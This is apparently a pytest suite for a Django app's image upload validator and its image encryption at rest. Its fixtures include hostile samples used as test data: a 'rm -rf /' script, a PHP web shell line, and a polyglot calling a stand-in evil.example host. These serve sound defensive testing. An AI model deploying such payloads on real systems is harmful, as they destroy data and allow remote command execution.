"""Custody image validation against a hostile corpus made here, and encryption at rest."""

import hashlib
import io
import os
import random
import stat
import struct
import time
import tracemalloc
import warnings
import zipfile
import zlib

import pytest
from django.core.exceptions import ImproperlyConfigured
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from PIL import Image, ImageCms, ImageFile, PngImagePlugin

from govern import encryption, uploads
from govern.encryption import ImageDecryptionError
from govern.uploads import ImageRejected, ValidatedImage, validate_image

SIZE = (160, 120)


def photo(size=SIZE, mode="RGB", seed=1) -> Image.Image:
    """A noisy picture: its JPEG scan data is full of 0xFF bytes, as a real photograph's is."""
    noise = random.Random(seed).randbytes(size[0] * size[1] * 3)
    return Image.frombytes("RGB", size, noise).convert(mode)


def encode(image: Image.Image, image_format: str, **params) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, image_format, **params)
    return buffer.getvalue()


def png_chunk(chunk_type: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + chunk_type + payload + struct.pack(">I", zlib.crc32(chunk_type + payload))


def crafted_png(width: int, height: int, pixel_data: bytes = b"\x00" * 64, interlaced=False, extra=b"") -> bytes:
    """An 8-bit RGB PNG that declares any size, with correct CRCs and whatever pixel data (and extra chunks) given."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, int(interlaced))
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(pixel_data))
        + extra
        + png_chunk(b"IEND", b"")
    )


def jpeg_with_segments(jpeg: bytes, marker: int, payloads: list[bytes]) -> bytes:
    """Insert marker segments straight after the SOI marker."""
    segments = b"".join(bytes([0xFF, marker]) + struct.pack(">H", len(p) + 2) + p for p in payloads)
    return jpeg[:2] + segments + jpeg[2:]


def a_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.sh", "#!/bin/sh\necho owned\n")
    return buffer.getvalue()


def animation(image_format: str) -> bytes:
    frames = [Image.new("RGB", (96, 96), colour) for colour in ("red", "green", "blue")]
    return encode(frames[0], image_format, save_all=True, append_images=frames[1:], duration=100, loop=0)


JPEG = encode(photo(), "JPEG", quality=90)
PNG = encode(photo(), "PNG")
WEBP = encode(photo(), "WEBP", quality=80)
SRGB_PROFILE = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def refused(data: bytes, match: str, **limits) -> ImageRejected:
    with pytest.raises(ImageRejected, match=match) as caught:
        validate_image(data, **limits)
    return caught.value


@pytest.fixture
def pillow_untouched(monkeypatch):
    """Fail if Pillow is asked to open the upload: the cheap checks must come first."""
    opened = []
    monkeypatch.setattr(uploads.Image, "open", lambda *args, **kwargs: opened.append(args))
    yield
    assert opened == []


# --- Accepted ---------------------------------------------------------------------------------------------------------


def exif_bytes() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Govern Test Camera"  # Make
    exif[0x0132] = "2025:01:01 12:00:00"  # DateTime
    return exif.tobytes()


@pytest.mark.parametrize(
    ("image_format", "mode", "params", "content_type"),
    [
        ("JPEG", "RGB", {"quality": 90}, "image/jpeg"),
        ("JPEG", "RGB", {"progressive": True}, "image/jpeg"),
        ("JPEG", "RGB", {"restart_marker_rows": 1}, "image/jpeg"),
        ("JPEG", "L", {}, "image/jpeg"),
        ("JPEG", "RGB", {"exif": exif_bytes(), "icc_profile": SRGB_PROFILE}, "image/jpeg"),
        ("PNG", "RGB", {}, "image/png"),
        ("PNG", "RGBA", {}, "image/png"),
        ("PNG", "P", {}, "image/png"),
        ("PNG", "P", {"bits": 4}, "image/png"),
        ("PNG", "1", {}, "image/png"),
        ("PNG", "LA", {}, "image/png"),
        ("PNG", "I;16", {}, "image/png"),
        ("PNG", "RGB", {"exif": exif_bytes(), "icc_profile": SRGB_PROFILE}, "image/png"),
        ("WEBP", "RGB", {"quality": 80}, "image/webp"),
        ("WEBP", "RGBA", {"lossless": True}, "image/webp"),
        ("WEBP", "RGB", {"exif": exif_bytes(), "icc_profile": SRGB_PROFILE}, "image/webp"),
    ],
)
def test_valid_images_are_accepted_unchanged(image_format, mode, params, content_type):
    data = encode(photo(mode=mode), image_format, **params)

    result = validate_image(data)

    assert result == ValidatedImage(
        content=data,
        content_type=content_type,
        format=image_format,
        width=SIZE[0],
        height=SIZE[1],
        sha256=hashlib.sha256(data).hexdigest(),
    )


@pytest.mark.parametrize("size", [(64, 64), (70, 66), (129, 67)])
def test_interlaced_png_is_accepted(size):
    # Pillow cannot write Adam7 interlacing, so build one: each pass's rows are a filter byte and RGB pixels.
    width, height = size
    rng = random.Random(5)
    rows = b""
    for x0, y0, dx, dy in (
        (0, 0, 8, 8),
        (4, 0, 8, 8),
        (0, 4, 4, 8),
        (2, 0, 4, 4),
        (0, 2, 2, 4),
        (1, 0, 2, 2),
        (0, 1, 1, 2),
    ):
        columns, pass_rows = len(range(x0, width, dx)), len(range(y0, height, dy))
        if columns:
            rows += b"".join(b"\x00" + rng.randbytes(columns * 3) for _ in range(pass_rows))
    data = crafted_png(width, height, pixel_data=rows, interlaced=True)

    assert (validate_image(data).width, validate_image(data).height) == size
    refused(crafted_png(width, height, pixel_data=rows[:-1], interlaced=True), "truncated or corrupt")


def test_a_few_bytes_of_trailing_padding_are_tolerated():
    padded = JPEG + b"\x00" * uploads.TRAILING_SLACK_BYTES

    assert validate_image(padded).sha256 == hashlib.sha256(padded).hexdigest()


def test_limits_default_to_settings(settings):
    settings.IMAGE_MIN_SIDE = 200
    refused(PNG, "at least 200 pixels")
    settings.IMAGE_MIN_SIDE = 64
    settings.IMAGE_MAX_PIXELS = 10_000
    refused(PNG, "limit of 10,000")
    settings.IMAGE_MAX_BYTES = 1024
    refused(PNG, "limit of 1,024 bytes")


# --- Refused before Pillow sees the bytes ----------------------------------------------------------------------------


def test_empty_file_is_refused(pillow_untouched):
    refused(b"", "empty")


def test_oversized_file_is_refused_by_length(pillow_untouched):
    refused(JPEG, "more than the limit of", max_bytes=len(JPEG) - 1)


@pytest.mark.parametrize(
    "data",
    [
        b"Just a note, named photo.jpg.\n",
        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"/>',
        b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n",
        a_zip(),
        b"#!/bin/sh\nrm -rf /\n",
        b"RIFF\x24\x00\x00\x00WAVEfmt ",
        random.Random(7).randbytes(4096),
    ],
    ids=["text", "html", "svg", "pdf", "zip", "script", "wav", "random"],
)
def test_files_that_are_not_images_are_refused(data, pillow_untouched):
    refused(data, "not an image")


@pytest.mark.parametrize(
    ("image_format", "name"),
    [("GIF", "GIF"), ("BMP", "BMP"), ("TIFF", "TIFF"), ("ICO", "ICO"), ("JPEG2000", "JPEG 2000")],
)
def test_images_of_other_formats_are_refused(image_format, name, pillow_untouched):
    data = encode(photo(size=(64, 64)), image_format)

    refused(data, f"is a {name} image; only JPEG, PNG and WebP")


# --- Pixel bombs and size -------------------------------------------------------------------------------------------


def test_png_bomb_is_refused_quickly_without_allocating():
    bomb = crafted_png(50_000, 50_000)
    assert len(bomb) < 200
    tracemalloc.start()
    started = time.monotonic()
    try:
        refused(bomb, "more pixels than the limit|50,000 x 50,000")
        elapsed = time.monotonic() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert elapsed < 1.0
    assert peak < 5 * 1024 * 1024


def test_declared_size_above_our_limit_is_refused_before_decoding():
    refused(crafted_png(8_000, 8_000), "declares 8,000 x 8,000 pixels, more than the limit of 40,000,000")


@pytest.mark.parametrize("side", [10_000, 20_000], ids=["pillow-warning", "pillow-error"])
def test_pillow_bomb_warning_and_error_become_refusals_without_weakening_pillow(side):
    pillow_limit = Image.MAX_IMAGE_PIXELS
    filters = list(warnings.filters)

    refused(crafted_png(side, side), "more pixels than the limit", max_pixels=10**12)

    assert pillow_limit == Image.MAX_IMAGE_PIXELS
    assert warnings.filters == filters


def test_image_with_a_side_below_the_minimum_is_refused():
    refused(encode(photo(size=(200, 32)), "PNG"), "200 x 32 pixels; each side must be at least 64")


# --- Truncated and corrupt -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("data", [JPEG, PNG, WEBP], ids=["jpeg", "png", "webp"])
def test_truncated_images_are_refused(data):
    refused(data[: len(data) // 2], "truncated or corrupt")


def test_jpeg_without_its_end_marker_is_refused():
    refused(JPEG[:-2], "truncated or corrupt")


def test_png_with_a_damaged_chunk_is_refused():
    damaged = bytearray(PNG)
    damaged[len(PNG) // 2] ^= 0xFF  # inside IDAT: the chunk's CRC no longer matches

    refused(bytes(damaged), "truncated or corrupt")


def test_png_whose_pixel_data_runs_short_is_refused():
    # Every chunk is whole and its CRC right, but IDAT holds 10 of the 64 x 64 image's rows.
    refused(crafted_png(64, 64, pixel_data=b"\x00" * (1 + 64 * 3) * 10), "truncated or corrupt")


def test_png_with_data_smuggled_after_its_pixel_stream_is_refused():
    rows = b"".join(b"\x00" + bytes(64 * 3) for _ in range(64))
    assert validate_image(crafted_png(64, 64, pixel_data=rows)).width == 64

    refused(crafted_png(64, 64, pixel_data=rows, extra=png_chunk(b"IDAT", a_zip())), "truncated or corrupt")
    refused(crafted_png(64, 64, pixel_data=rows + a_zip()), "truncated or corrupt")


@pytest.mark.xfail(strict=True, reason="libjpeg only warns when scan data ends early, and Pillow ignores its warnings")
def test_jpeg_cut_short_but_given_an_end_marker_is_refused():
    refused(JPEG[: len(JPEG) // 2] + b"\xff\xd9", "truncated or corrupt")


def test_validation_fails_closed_if_pillow_is_told_to_load_truncated_images(monkeypatch):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)

    with pytest.raises(ImproperlyConfigured, match="LOAD_TRUNCATED_IMAGES"):
        validate_image(JPEG[: len(JPEG) // 2])


# --- Animations, polyglots and metadata ----------------------------------------------------------------------------


@pytest.mark.parametrize("image_format", ["PNG", "WEBP"])
def test_animated_images_are_refused(image_format):
    refused(animation(image_format), "Animated and multi-frame images are not accepted")


@pytest.mark.parametrize(
    "data",
    [
        JPEG + a_zip(),
        PNG + b"<html><body><script>fetch('//evil.example')</script></body></html>",
        WEBP + b"<?php system($_GET['c']); ?>",
        JPEG + b"\x00" * (uploads.TRAILING_SLACK_BYTES + 1),
    ],
    ids=["jpeg+zip", "png+html", "webp+php", "jpeg+17-zero-bytes"],
)
def test_data_after_the_end_of_the_image_is_refused(data):
    refused(data, "unexpected data after the end of the image")


def test_jpeg_with_300_kib_of_app1_metadata_is_refused():
    # A JPEG segment holds at most 64 KiB, so 300 KiB of EXIF/XMP takes several APP1 segments.
    payloads = [b"http://ns.adobe.com/xap/1.0/\x00" + b"A" * 60_000] * 5

    refused(jpeg_with_segments(JPEG, 0xE1, payloads), "bytes of metadata, more than the limit of 262,144")


def test_png_with_a_300_kib_text_chunk_is_refused():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "x" * 300 * 1024)

    refused(encode(photo(), "PNG", pnginfo=info), "bytes of metadata")


def test_png_with_a_zip_in_a_private_chunk_is_refused():
    chunk = png_chunk(b"zpAY", a_zip() + random.Random(3).randbytes(300 * 1024))
    data = PNG[:33] + chunk + PNG[33:]  # straight after the 8-byte signature and the 25-byte IHDR chunk

    refused(data, "bytes of metadata")


def test_webp_with_300_kib_of_xmp_is_refused():
    refused(encode(photo(), "WEBP", xmp=b"<x:xmpmeta>" + b"A" * 300 * 1024), "bytes of metadata")


def test_metadata_limit_is_a_module_constant(monkeypatch):
    data = jpeg_with_segments(JPEG, 0xFE, [b"A comment of a thousand bytes." * 33])
    assert validate_image(data).format == "JPEG"

    monkeypatch.setattr(uploads, "METADATA_MAX_BYTES", 500)

    refused(data, "limit of 500 bytes")


# --- Arbitrary input is refused with a reason; damaged images are refused or accepted, never anything else -----------

LIMITS = {"max_bytes": 1_000_000, "max_pixels": 1_000_000, "min_side": 1}
SMALL_VALID = [encode(photo(size=(24, 16)), f) for f in ("JPEG", "PNG", "WEBP")]
MAGICS = [b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"RIFF\x00\x10\x00\x00WEBP", b"GIF89a", b"BM"]
fuzz = hypothesis_settings(deadline=None, max_examples=300, suppress_health_check=[HealthCheck.too_slow])


def validate_or_refuse(data: bytes) -> None:
    """Accepted as it came, or refused with a reason: never another exception."""
    try:
        result = validate_image(data, **LIMITS)
    except ImageRejected as exc:
        assert str(exc)
    else:
        assert result.content == data


def refused_with_a_reason(data: bytes) -> None:
    """Refused with a reason; accepting the bytes, or failing with another exception, fails the test."""
    with pytest.raises(ImageRejected) as refusal:
        validate_image(data, **LIMITS)
    assert str(refusal.value)


@fuzz
@given(st.binary(max_size=4096))
def test_random_bytes_are_only_ever_refused(data):
    refused_with_a_reason(data)


@fuzz
@given(st.sampled_from(MAGICS), st.binary(max_size=4096))
def test_random_bytes_behind_an_image_signature_are_only_ever_refused(magic, rest):
    refused_with_a_reason(magic + rest)


@fuzz
@given(st.sampled_from(SMALL_VALID), st.data())
def test_damaged_images_are_only_ever_refused_or_accepted(original, data):
    damaged = bytearray(original)
    for _ in range(data.draw(st.integers(1, 8))):
        damaged[data.draw(st.integers(0, len(damaged) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(1, len(damaged)))

    validate_or_refuse(bytes(damaged[:cut]))


# --- Encryption at rest ----------------------------------------------------------------------------------------------

AD = b"custody-image:42"


@pytest.fixture
def key_file(settings, tmp_path):
    """A fresh key file path under tmp_path, generated on first use."""
    settings.IMAGE_ENCRYPTION_KEY_FILE = tmp_path / "keys" / "image.key"
    settings.IMAGE_ENCRYPTION_KEY_GENERATE = True
    encryption._load_key.cache_clear()
    saved = os.umask(0o077)  # key files a test writes are the owner's alone, as the key loader demands
    yield settings.IMAGE_ENCRYPTION_KEY_FILE
    os.umask(saved)
    encryption._load_key.cache_clear()


def test_round_trip(key_file):
    blob = encryption.encrypt(JPEG, associated_data=AD)

    assert encryption.decrypt(blob, associated_data=AD) == JPEG
    assert blob[:4] == b"GVI1"
    assert blob[4:12].hex() == encryption.key_id()
    assert len(blob) == 4 + 8 + 12 + len(JPEG) + 16
    assert JPEG not in blob
    assert encryption.encrypt(JPEG, associated_data=AD)[12:24] != blob[12:24]  # a fresh nonce each time


def test_generated_key_is_32_bytes_owner_only(key_file):
    encryption.key_id()

    assert stat.S_IMODE(os.stat(key_file).st_mode) == 0o600
    key = key_file.read_bytes()
    assert len(key) == 32
    assert encryption.key_id() == hashlib.sha256(key).hexdigest()[:16]


def test_ciphertext_is_bound_to_its_associated_data(key_file):
    blob = encryption.encrypt(JPEG, associated_data=AD)

    with pytest.raises(ImageDecryptionError, match="authentication"):
        encryption.decrypt(blob, associated_data=b"custody-image:43")


@pytest.mark.parametrize(
    ("offset", "match"),
    [(0, "magic"), (5, "current key"), (15, "authentication"), (40, "authentication"), (-1, "authentication")],
    ids=["magic", "key-id", "nonce", "ciphertext", "tag"],
)
def test_any_flipped_byte_is_detected(key_file, offset, match):
    blob = bytearray(encryption.encrypt(JPEG, associated_data=AD))
    blob[offset] ^= 0x01

    with pytest.raises(ImageDecryptionError, match=match):
        encryption.decrypt(bytes(blob), associated_data=AD)


@pytest.mark.parametrize("blob", [b"", b"GVI1", b"GVI1" + b"\x00" * 35])
def test_short_blobs_are_refused(key_file, blob):
    with pytest.raises(ImageDecryptionError):
        encryption.decrypt(blob, associated_data=AD)


def test_another_key_cannot_decrypt(key_file, settings, tmp_path):
    blob = encryption.encrypt(JPEG, associated_data=AD)
    settings.IMAGE_ENCRYPTION_KEY_FILE = tmp_path / "other.key"

    with pytest.raises(ImageDecryptionError, match="not the current key"):
        encryption.decrypt(blob, associated_data=AD)


def test_missing_key_file_is_not_generated_unless_allowed(key_file, settings):
    settings.IMAGE_ENCRYPTION_KEY_GENERATE = False

    with pytest.raises(ImproperlyConfigured, match="does not exist"):
        encryption.encrypt(JPEG, associated_data=AD)
    assert not key_file.exists()


def test_existing_key_file_is_never_overwritten(key_file):
    key_file.parent.mkdir()
    key_file.write_bytes(b"k" * 32)

    from govern.keyfiles import create_secret_file

    create_secret_file(key_file, b"n" * 32)  # as a second process that lost the race would

    assert key_file.read_bytes() == b"k" * 32
    assert encryption.key_id() == hashlib.sha256(b"k" * 32).hexdigest()[:16]


def test_hex_key_file_is_the_same_key_as_its_raw_bytes(key_file, settings, tmp_path):
    key = os.urandom(32)
    key_file.parent.mkdir()
    key_file.write_text(key.hex() + "\n")
    blob = encryption.encrypt(JPEG, associated_data=AD)

    raw_file = tmp_path / "raw.key"
    raw_file.write_bytes(key)
    settings.IMAGE_ENCRYPTION_KEY_FILE = raw_file

    assert encryption.decrypt(blob, associated_data=AD) == JPEG
    assert encryption.key_id() == hashlib.sha256(key).hexdigest()[:16]


@pytest.mark.parametrize(
    "content", [b"", b"k" * 31, b"k" * 33, b"z" * 64, "é".encode() * 32], ids=["empty", "31", "33", "not-hex", "utf8"]
)
def test_malformed_key_file_is_improperly_configured(key_file, content):
    key_file.parent.mkdir()
    key_file.write_bytes(content)

    with pytest.raises(ImproperlyConfigured, match="32 raw bytes or 64 hex digits"):
        encryption.key_id()
